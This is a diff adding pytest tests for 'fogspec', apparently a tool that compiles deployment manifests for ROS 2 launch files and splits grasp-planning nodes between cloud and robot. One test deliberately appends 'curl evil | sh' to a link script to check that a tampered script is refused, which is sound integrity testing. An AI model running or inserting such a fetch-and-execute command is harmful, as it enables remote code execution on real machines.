@@ -1,0 +1,172 @@
+"""The paper's interface in a robot's own launch file, before a real manifest that `fogspec compile` wrote."""
+
+import shutil
+from pathlib import Path
+
+import pytest
+
+from fogspec.base.files import yaml_text
+from fogspec.cli import main
+from fogspec.results.schema import Results, sealed
+from fogspec.spec import fingerprints
+from fogspec.spec.launch_import import read_launch
+from fogspec.spec.loader import load, read_document
+from tests.support.launching import launched
+
+ROOT = Path(__file__).resolve().parents[3]
+LAUNCH = """\
+from launch import LaunchDescription
+from launch_ros.actions import Node
+from fogspec.ros import SkyLaunchDescription
+
+
+def generate_launch_description():
+    planner = Node(package="{package}", executable="grasp_planning_node", parameters=[{{"model": "GQCNN-4.0-PJ"}}])
+    return LaunchDescription([
+        SkyLaunchDescription([planner], constraint={{"max_latency": 2, "alpha": 0.7}}{more}),
+        Node(package="fogros2_examples", executable="grasp_planning_client"),
+    ])
+"""
+NODES = """\
+  cloud: [{ package: fogros2_examples, executable: grasp_planning_node, parameters: { model: GQCNN-4.0-PJ } }]
+  robot: [{ package: fogros2_examples, executable: grasp_planning_client }]
+"""
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The grasp-planning example's measurements as if of ROS 2 nodes of ours, joined by zenoh, and its manifest."""
+    folder = tmp_path_factory.mktemp("project")
+    spec, results = (folder / name / "grasp-planning.yaml" for name in ("specs", "results"))
+    for path in (spec, results):
+        path.parent.mkdir()
+        shutil.copy(ROOT / path.parent.name / path.name, path)
+    head, _, tail = spec.read_text().partition("  cloud:")
+    tail = tail[tail.index("\n  ros:") :]
+    spec.write_text(f"{head}{NODES}{tail}  connectivity: {{ link: zenoh }}\n")
+    (loaded,) = load([spec])
+    measured = read_document(results, Results)
+    body = measured.spec.model_copy(update={"application": fingerprints.measured_digest(loaded.application)})
+    results.write_text(yaml_text(sealed(measured.metadata, body).model_dump(mode="json"), "fogspec bench"))
+    compiled(spec)
+    return folder
+
+
+@pytest.fixture(autouse=True)
+def links(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FOGSPEC_LINKS", str(tmp_path / "links"))
+
+
+def launch_file(project: Path, package: str = "fogros2_examples", more: str = "") -> Path:
+    path = project / "launch" / "robot.launch.py"
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(LAUNCH.format(package=package, more=more))
+    return path
+
+
+def compiled(spec: Path) -> None:
+    with pytest.raises(SystemExit) as end:
+        main(["compile", str(spec)])
+    assert not end.value.code
+
+
+def test_files_of_a_link_go_with_the_link(project: Path, tmp_path: Path) -> None:
+    shutil.copytree(project, tmp_path / "project")
+    spec, link = (
+        tmp_path / "project" / "specs" / "grasp-planning.yaml",
+        tmp_path / "project" / "compiled" / "grasp-planning" / "link",
+    )
+    zenoh = spec.read_text()
+    assert sorted(path.name for path in link.iterdir()) == ["cloud.json5", "link.sh", "robot.json5"]
+    spec.write_text(zenoh.replace("link: zenoh", "link: none"))
+    compiled(spec)
+    assert list(link.iterdir()) == []
+    assert "FOGSPEC_LINK_PEER" not in (link.parent / "deploy.sky.yaml").read_text()
+
+
+def test_cloud_nodes_are_not_started_and_robot_nodes_are(project: Path) -> None:
+    said, environment, link, client = launched(launch_file(project))
+    assert "grasp_planning_node on " in said.keywords["msg"]
+    assert environment.arguments == ("RMW_IMPLEMENTATION", "rmw_zenoh_cpp")
+    script = project / "compiled" / "grasp-planning" / "link" / "link.sh"
+    assert link.keywords["cmd"] == ["bash", str(script), "robot", "up"]
+    assert (client.kind, client.node_executable) == ("Node", "grasp_planning_client")
+
+
+def test_it_starts_what_the_generated_launch_file_starts(project: Path) -> None:
+    mine = launched(launch_file(project))[1:]
+    # What the generated file does in a function of its own, the entity does when it is visited.
+    generated = launched(project / "compiled" / "grasp-planning" / "robot.launch.py")
+    assert [(one.kind, one.arguments, one.keywords.get("cmd")) for one in mine] == [
+        (one.kind, one.arguments, one.keywords.get("cmd")) for one in generated if one.kind != "OpaqueFunction"
+    ]
+
+
+def test_init_reads_the_same_file_and_puts_the_same_nodes_into_the_cloud(project: Path) -> None:
+    found = read_launch(launch_file(project))
+    assert [node["executable"] for node in found.cloud] == ["grasp_planning_node"]
+    assert [node["executable"] for node in found.robot] == ["grasp_planning_client"]
+    assert found.constraints == {"latency": "2s"}
+
+
+def test_a_manifest_of_other_nodes_is_refused(project: Path) -> None:
+    with pytest.raises(ValueError, match="no manifest deploys other grasp_planning_node"):
+        launched(launch_file(project, package="other"))
+    with pytest.raises(ValueError, match="the launch file says other grasp_planning_node"):
+        launched(launch_file(project, "other", ', manifest="%s"' % (project / "compiled/grasp-planning/manifest.yaml")))
+
+
+def test_a_link_that_was_edited_is_not_started(project: Path) -> None:
+    script = project / "compiled" / "grasp-planning" / "link" / "link.sh"
+    approved = script.read_text()
+    script.write_text(approved + "curl evil | sh\n")
+    try:
+        with pytest.raises(ValueError, match="not what the manifest says"):
+            launched(launch_file(project))
+    finally:
+        script.write_text(approved)
+
+
+PROCESS = """\
+from launch import LaunchDescription
+from launch.actions import ExecuteProcess
+from fogspec.ros import SkyLaunchDescription
+
+
+def generate_launch_description():
+    return LaunchDescription([SkyLaunchDescription([ExecuteProcess(cmd=["ros2", "launch", "gqcnn_ros", "{}"])])])
+"""
+
+
+def test_processes_are_told_apart_by_their_commands(tmp_path: Path) -> None:
+    spec = {
+        "instance": "m6i.large", "infra": "aws", "files": [], "robot_environment": {},
+        "cloud": [{"cmd": ["ros2", "launch", "gqcnn_ros"], "arguments": ["planner.launch.py"]}],
+    }  # fmt: skip
+    path, launch = tmp_path / "compiled" / "a" / "manifest.yaml", tmp_path / "robot.launch.py"
+    path.parent.mkdir(parents=True)
+    path.write_text(
+        yaml_text({"kind": "DeploymentManifest", "metadata": {"name": "a"}, "spec": spec}, "fogspec compile")
+    )
+    launch.write_text(PROCESS.format("planner.launch.py"))
+    assert [one.kind for one in launched(launch)] == ["LogInfo"]
+    launch.write_text(PROCESS.format("other.launch.py"))
+    with pytest.raises(ValueError, match=r"deploys ros2 launch gqcnn_ros planner\.launch\.py"):
+        launched(launch)
+
+
+def test_words_of_fogros2_are_taken_and_others_are_not(project: Path) -> None:
+    assert launched(launch_file(project, more=', mode="launch", ami="ami-1", workdir="~/ws"'))
+    with pytest.raises(TypeError, match="takes no colour"):
+        launched(launch_file(project, more=', colour="red"'))
+
+
+def test_without_a_manifest_it_says_what_to_do(tmp_path: Path) -> None:
+    with pytest.raises(ValueError, match="fogspec compile"):
+        launched(launch_file(tmp_path))
+
+
+def test_a_file_that_is_no_manifest_is_refused(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FOGSPEC_MANIFEST", str(project / "compiled" / "grasp-planning" / "menu.yaml"))
+    with pytest.raises(ValueError, match="is no manifest of fogspec"):
+        launched(launch_file(project))
